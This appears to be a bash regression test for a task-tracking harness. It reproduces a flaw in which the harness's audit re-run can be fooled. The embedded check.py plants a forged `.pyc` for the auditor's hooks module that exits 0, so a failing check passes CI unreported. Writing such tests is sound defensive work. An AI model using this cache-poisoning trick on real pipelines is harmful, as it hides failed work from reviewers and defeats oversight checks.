#!/usr/bin/env bash
# Defect (harness/history/rerun/fingerprint.py _walk, and the auditor's own imports after the re-runs:
# harness/cli/audit_report.py audit_text imports harness.cli.hooks lazily): the fingerprint walks the harness's own
# installed package and the site-packages folders, but never descends into a `__pycache__` below a walked folder's
# top level (and lets any new `.pyc` appear), on the ground that every command a re-run starts gets its own
# PYTHONPYCACHEPREFIX. The AUDITOR's own interpreter has no such prefix: it reads the `__pycache__` beside its sources.
# So the commit's code that `--rerun` executes, running as the job's user, writes a `.pyc` (header: the source's mtime
# and size, so Python trusts it) into `harness/cli/__pycache__/` for a module the audit imports only after the
# re-runs (harness.cli.hooks, imported by the text report). The re-run says "does not reproduce", then the auditor
# imports the planted code, which exits 0 before the verdict is printed: no poisoning is reported, CI passes.
# Here the task is DONE honestly on the laptop (check.py passes there) and check.py fails in CI's re-run — the
# recorded result is not reproduced — yet `harness audit --rerun --base BASE --to HEAD` exits 0.
# Correct behaviour: the audit exits 1 (does not reproduce), or 2 (poisoning) — never 0; a bytecode cache the re-run
# plants where the auditor itself (or a later re-run's interpreter) will read it is poisoning, or the auditor
# imports everything it needs before the first re-run / reads no bytecode cache a run could write.
# To leave the clone's own install untouched, the auditor here is a copy of the clone's harness package in a fresh
# virtualenv of the clone's Python (as CI installs the harness into its interpreter); the clone's venv gives the
# dependencies. Exit 1 while the defect is present, 0 when fixed, 2 on a setup failure.
set -u
here=$(cd "$(dirname "$0")/../.." && pwd); export PATH="$here/.venv/bin:$PATH"
T=$(mktemp -d); trap 'rm -rf "$T"' EXIT
export GIT_CONFIG_GLOBAL=/dev/null GIT_CONFIG_NOSYSTEM=1 HOME=$T/home
export GIT_AUTHOR_NAME=D GIT_AUTHOR_EMAIL=d@example.com GIT_COMMITTER_NAME=D GIT_COMMITTER_EMAIL=d@example.com
mkdir -p "$HOME"
command -v harness >/dev/null || { echo "setup failed: no harness in $here/.venv"; exit 2; }
D=$T/w; mkdir -p "$D"
setup() { "$@" >>"$D/log" 2>&1 || { echo "setup failed: $*"; tail -20 "$D/log"; exit 2; }; }
# CI's interpreter: a virtualenv with the harness installed in it (a copy of the clone's package; deps from the clone's venv)
deps=$("$here/.venv/bin/python" -c 'import yaml, os; print(os.path.dirname(os.path.dirname(yaml.__file__)))') \
  || { echo "setup failed: no deps"; exit 2; }
setup "$here/.venv/bin/python" -m venv --without-pip "$T/ci"
site=$("$T/ci/bin/python" -c 'import sysconfig; print(sysconfig.get_paths()["purelib"])')
setup cp -r "$here/harness" "$site/harness"
for d in templates skills hooks; do [ -d "$here/$d" ] && setup cp -r "$here/$d" "$site/harness/$d"; done
find "$site/harness" -name __pycache__ -prune -exec rm -rf {} +
echo "$deps" > "$site/zz_deps.pth"
printf '#!%s\nimport sys\nfrom harness.cli.launch import entry\nsys.exit(entry())\n' "$T/ci/bin/python" > "$T/ci/bin/harness"
chmod +x "$T/ci/bin/harness"
export PATH="$T/ci/bin:$PATH"
[ "$(command -v harness)" = "$T/ci/bin/harness" ] || { echo "setup failed: harness copy not first on PATH"; exit 2; }
"$T/ci/bin/python" -c 'import harness.cli.main' || { echo "setup failed: harness copy not importable"; exit 2; }

cd "$D"; setup git init -q --bare remote.git
setup git init -q -b main app; cd app; setup git remote add origin ../remote.git
mkdir -p .harness
printf '__pycache__/\n' > .gitignore
cat > check.py <<'PY'
# passes on the laptop; in CI's re-run (a worktree under harness-rerun-*) it fails, and plants bytecode for a module
# the auditor imports only after the re-runs
import importlib.util, marshal, os, sys
if "harness-rerun-" not in os.getcwd():
    sys.exit(0)
pkg = importlib.util.find_spec("harness").submodule_search_locations[0]
src = os.path.join(pkg, "cli", "hooks.py")
st = os.stat(src)
code = compile("import os\nos._exit(0)\n", src, "exec")
head = importlib.util.MAGIC_NUMBER + (0).to_bytes(4, "little") + (int(st.st_mtime) & 0xFFFFFFFF).to_bytes(4, "little")
head += (st.st_size & 0xFFFFFFFF).to_bytes(4, "little")
cache = os.path.join(pkg, "cli", "__pycache__")
os.makedirs(cache, exist_ok=True)
with open(os.path.join(cache, "hooks.%s.pyc" % sys.implementation.cache_tag), "wb") as f:
    f.write(head + marshal.dumps(code))
print("check: 1 != 2", file=sys.stderr)
sys.exit(1)
PY
cat > .harness/config.yaml <<'YAML'
version: 1
evidence:
  unit_test:
    command: ["python", "check.py"]
YAML
setup harness init; setup harness install; setup git add -A; setup git commit -qm init
setup git push -q origin main; setup git remote set-head origin main
base=$(git rev-parse HEAD)
setup harness task new "Checked"
setup harness requirement add "check.py passes" --priority must
for s in SPECIFYING PLANNED IMPLEMENTING VERIFYING; do setup harness transition $s; done
setup harness evidence unit_test
setup harness requirement set REQ-001 --status verified --evidence unit_test
for e in $(harness gate 2>&1 | grep -o 'harness evidence [a-z_.]*' | awk '{print $3}' | sort -u); do
  setup harness evidence "$e"
done
setup harness transition REVIEWING; setup harness transition GATING
setup harness gate --advance
setup harness transition DONE
setup git add -A; setup git commit -qm done
echo "--- harness audit --rerun --base BASE --to HEAD" >>"$D/log"
rc=0; harness audit --rerun --base "$base" --to HEAD >>"$D/log" 2>&1 || rc=$?
tail -6 "$D/log"
if [ "$rc" = 0 ]; then
  echo "DEFECT: audit --rerun exited 0, though check.py failed in the re-run (the DONE's record is not reproduced):"
  echo "        the re-run planted harness/cli/__pycache__/hooks.*.pyc, which the auditor imported after the re-runs"
  exit 1
fi
grep -q "does not reproduce\|poison" "$D/log" && { echo "fixed: audit exited $rc"; exit 0; }
echo "setup failed: audit exited $rc for another reason"; exit 2
